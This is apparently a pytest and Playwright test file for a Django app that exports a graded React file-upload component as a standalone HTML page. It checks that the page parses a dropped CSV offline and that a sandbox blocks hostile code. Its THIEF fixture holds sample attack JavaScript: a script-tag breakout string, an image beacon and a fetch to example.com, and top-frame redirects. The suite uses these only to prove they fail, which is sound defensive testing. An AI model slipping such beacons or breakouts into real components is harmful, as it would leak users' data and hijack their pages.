"""The best component as one HTML file parses a dropped file in a plain browser, without the site."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Browser, Page, Route, expect

from evaluations.models import Grading, Workbook
from tests.webapp.file_rows import answered, keep_books, read_books
from tests.webapp.rows_for_pages import make_person, sign_in

pytestmark = pytest.mark.django_db(transaction=True)
COMPONENT = """import * as XLSX from "xlsx";
export default function Upload({ onData }) {
  const change = async (e) => {
    const book = XLSX.read(await e.target.files[0].arrayBuffer());
    onData(XLSX.utils.sheet_to_json(book.Sheets[book.SheetNames[0]]));
  };
  return <label>File <input type="file" onChange={change} /></label>;
}
"""
THIEF = COMPONENT.replace(
    "onData(",
    """const text = "</script><script>parent.location = 'https://example.com/4'</script><!--";
    new Image().src = "https://example.com/1?" + text;
    try { await fetch("https://example.com/2"); } catch {}
    try { top.location = "https://example.com/3"; } catch {}
    setTimeout(() => { location.href = "https://example.com/5"; }, 300);
    onData(""",
)
DROP = """({ at, name, text }) => {
  const transfer = new DataTransfer();
  transfer.items.add(new File([text], name));
  const how = { bubbles: true, cancelable: true, dataTransfer: transfer };
  document.querySelector(at).dispatchEvent(new DragEvent("drop", how));
}"""


@pytest.fixture
def mia() -> User:
    return make_person("mia")


def winner(source: str = COMPONENT) -> tuple[Workbook, Grading]:
    """A workbook and the grading of an answer that can read it."""
    files = keep_books(read_books())
    answer = answered(files).candidates.filter(task__workbook=files[0]).get(model__name="good")
    grading = answer.gradings.get(is_current=True)
    grading.extraction = {"files": {"answer.tsx": source}, "entry": "answer.tsx"}
    grading.save(update_fields=["extraction"])
    return files[0], grading


def opened(page: Page, mia: User, folder: Path, source: str) -> list[str]:
    """Open the downloaded file in a plain browser and drop a file on it. Yield the addresses that it requests."""
    workbook, grading = winner(source)
    response = sign_in(mia).get(f"/workbooks/{workbook.pk}/demo/{grading.candidate_id}/html/")
    assert response["Content-Disposition"].startswith("attachment")
    path = folder / "parser.html"
    path.write_bytes(response.content)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(path.as_uri())
    page.evaluate(DROP, {"at": "#drop", "name": "a.csv", "text": "foo,bar\n1,2\n"})
    return requests


def test_dropped_file_is_parsed_without_the_site(page: Page, mia: User, tmp_path: Path) -> None:
    requests = opened(page, mia, tmp_path, COMPONENT)
    result = page.frame_locator("#component").get_by_text('onData([{"foo":1,"bar":2}])')
    expect(result).to_be_visible(timeout=30_000)
    assert not [url for url in requests if url.startswith("http")]
    page.get_by_text("Licences", exact=True).click()
    expect(page.locator("pre.licences")).to_contain_text("@e965/xlsx")
    page.get_by_text("Source", exact=True).click()
    expect(page.locator("pre").first).to_contain_text("XLSX.read")


def test_component_cannot_send_requests(browser: Browser, mia: User, tmp_path: Path) -> None:
    context = browser.new_context()
    reached: list[str] = []  # requests that the policy refuses never reach a route

    def refuse(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    context.route("http*://**/*", refuse)
    page = context.new_page()
    with page.expect_console_message(lambda message: "Framing" in message.text, timeout=30_000):
        opened(page, mia, tmp_path, THIEF)
    assert reached == []
    assert page.url.startswith("file:")
    context.close()


def test_answer_without_code_and_other_teams_get_no_file(mia: User) -> None:
    workbook, grading = winner()
    grading.extraction = {}
    grading.save(update_fields=["extraction"])
    client = sign_in(mia)
    assert client.get(f"/workbooks/{workbook.pk}/demo/{grading.candidate_id}/html/").status_code == 404
    assert client.get(f"/workbooks/{workbook.pk}/demo/999999/html/").status_code == 404
